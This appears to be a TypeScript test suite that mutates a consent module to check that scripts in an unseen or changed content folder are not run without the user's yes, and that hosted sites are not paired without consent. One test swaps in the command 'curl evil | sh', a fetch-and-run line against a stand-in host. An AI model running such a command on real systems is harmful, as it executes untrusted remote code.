/** Who is asked before anything may run, and what is shown. */
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import type { Io } from '../../../server/commands/io.ts';
import type { StartSettings } from '../../../server/commands/start/start-settings.ts';
import { GUIDE } from '../guide.ts';
import type { Row } from '../row.ts';
import type { World } from '../world.ts';
import { edit } from './edits.ts';

const TRUST = 'server/consent/trust.ts';
const CONSENT = 'server/commands/start/consent.ts';
const SITE = 'https://docs.example.com';

export const trust: readonly Row[] = [
  {
    says: 'trust/first',
    tries: 'a content folder that nobody has seen, and the answer no',
    without: edit(TRUST, 'if (runnable.length > 0 && !settings.yes) {', 'if (runnable.length > 1000) {'),
    attack: async (world) => (await asked(world, ['n'])).answers,
    kept: ['refused'],
    broken: ['trusted'],
  },
  {
    says: 'trust/first',
    tries: 'an answer that is not yes',
    without: edit(TRUST, "if (!/^y(es)?$/i.test(final.trim())) return 'refused';", ''),
    attack: async (world) => (await asked(world, ['nay'])).answers,
    kept: ['refused'],
    broken: ['trusted'],
  },
  {
    says: 'trust/first',
    tries: 'asking without a list',
    without: edit(TRUST, 'settings.out(describeChanges(source, changes, columns));', ''),
    attack: async (world) => (await asked(world, ['n'])).said.includes('+ canary/canary: echo sung'),
    kept: true,
    broken: false,
  },
  {
    says: 'trust/first',
    tries: 'going on although the answer was no',
    without: edit(CONSENT, "return trust !== 'refused';", 'return true;'),
    attack: async (world) => {
      const { trusts } = await world.load(CONSENT);
      return trusts('/content', [world.guide()], start(), terminal(world, 'n'));
    },
    kept: false,
    broken: true,
  },
  {
    says: 'trust/changed',
    tries: 'another script under a known name',
    settings: {},
    without: edit(TRUST, 'if (before?.hash === hash) return [];', 'if (before) return [];'),
    attack: async (world) => {
      const again = async () => world.edit(GUIDE.replace('printf \'%s\' "$TEXT"', 'curl evil | sh'));
      const { answers, said } = await asked(world, ['y', 'n'], again);
      return [...answers, said.includes('+ curl evil | sh')];
    },
    kept: ['trusted', 'refused', true],
    broken: ['trusted', 'trusted', false],
  },
  {
    says: 'trust/yes',
    tries: 'nobody there to ask',
    without: edit(TRUST, 'runnable.length > 0 && !settings.yes', 'runnable.length > 0'),
    attack: async (world) => (await asked(world, [null], undefined, true)).answers,
    kept: ['trusted'],
    broken: ['unasked'],
  },
  ...Object.entries({ 'the answer no': 'n', 'nobody there to ask': null }).map(([tries, answer]): Row => ({
    says: 'hosted/consent',
    tries,
    without: edit(CONSENT, 'for (const site of yes ? [] : sites)', 'for (const site of yes ? sites : [])'),
    attack: async (world) => {
      const { mustConsent } = await world.load(CONSENT);
      return mustConsent(start([SITE]), terminal(world, answer)).then(
        () => 'paired',
        () => 'refused',
      );
    },
    kept: 'refused',
    broken: 'paired',
  })),
];

let folders = 0;

/** Serves the guide once for each answer; `change` happens in between. */
async function asked(world: World, replies: readonly (string | null)[], change?: () => Promise<void>, yes = false) {
  const { askTrust } = await world.load(TRUST);
  const state = join(world.folder, `trust-${(folders += 1)}`);
  mkdirSync(state);
  const answers: string[] = [];
  let said = '';
  for (const reply of replies) {
    if (answers.length > 0) await change?.();
    const out = (text: string) => void (said += text);
    const settings = { state, source: '/content', guides: [world.guide()], yes, ask: async () => reply, out };
    answers.push(await askTrust(settings));
  }
  return { answers, said };
}

function start(sites: readonly string[] = []): StartSettings {
  return { path: undefined, open: false, yes: false, port: undefined, sites };
}

/** A terminal at which somebody answers like this; null for none. */
function terminal({ folder }: World, answer: string | null): Io {
  return {
    out: () => undefined,
    err: () => undefined,
    cwd: folder,
    env: { HOME: join(folder, `home-${(folders += 1)}`) },
    stdin: Readable.from([]),
    facts: { root: folder, canAsk: answer !== null, isTerminal: false, color: false, columns: 80 },
    ask: async () => answer,
    onInterrupt: () => () => {},
  };
}
